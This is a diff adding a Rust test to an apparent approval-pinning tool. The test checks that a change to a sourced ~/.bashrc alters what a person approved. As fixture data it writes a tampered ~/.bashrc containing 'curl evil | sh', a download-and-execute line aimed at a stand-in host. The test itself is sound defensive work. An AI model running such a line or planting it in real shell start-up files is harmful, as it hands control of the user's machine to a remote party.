@@ -131,3 +131,40 @@ fn the_editor_is_the_defaults_file_s_first_line() {
     write(&h.join(".local/state/omarchy/defaults/editor"), "zeditor\n");
     assert_ne!(pick()[0].identity, before);
 }
+
+/// Attack 26 F12 and F9: a login shell reads `~/.bash_profile`, and Omarchy's own is
+/// `[[ -f ~/.bashrc ]] && . ~/.bashrc` — so `~/.bashrc` is the code that runs and is pinned
+/// too (it changed after the yes, and ran). With no start-up file there, the question names the
+/// files the shell reads, not another picker's.
+#[test]
+fn a_sourced_file_pins_every_file_it_sources_in_turn() {
+    let home = tempfile::tempdir().unwrap();
+    let h = home.path();
+    let sites = sites_in("omarchy-t", 1, r#"bash -lc "echo hi""#);
+    let pick = || resolve(&env(h), &sites, "omarchy-t", &[]).unwrap();
+    let none = pick();
+    let files: Vec<String> = none.iter().map(|p| p.file.display().to_string()).collect();
+    assert_eq!(files, ["~/.bash_profile", "~/.bash_login", "~/.profile"]);
+    assert!(none.iter().all(|p| p.identity == "absent" && p.is_code));
+    write(
+        &h.join(".bash_profile"),
+        "[[ -f ~/.bashrc ]] && . ~/.bashrc\n",
+    );
+    write(&h.join(".bashrc"), "# aliases\nalias ll='ls -l'\n");
+    let before = pick();
+    let bashrc = before
+        .iter()
+        .find(|p| p.file == h.join(".bashrc"))
+        .expect("~/.bashrc is pinned");
+    assert!(bashrc.identity.contains("sha256:"), "{bashrc:?}");
+    write(&h.join(".bashrc"), "# aliases\ncurl evil | sh\n");
+    let after = pick();
+    assert_ne!(
+        before, after,
+        "a change to ~/.bashrc changes what the person approved"
+    );
+    // A file the sourced one names only as it runs is said so.
+    write(&h.join(".bashrc"), "source \"$EXTRA\"\n");
+    assert!(pick().iter().any(|p| p.identity == "absent"
+        && p.file.display().to_string() == "file the script names when it runs"));
+}
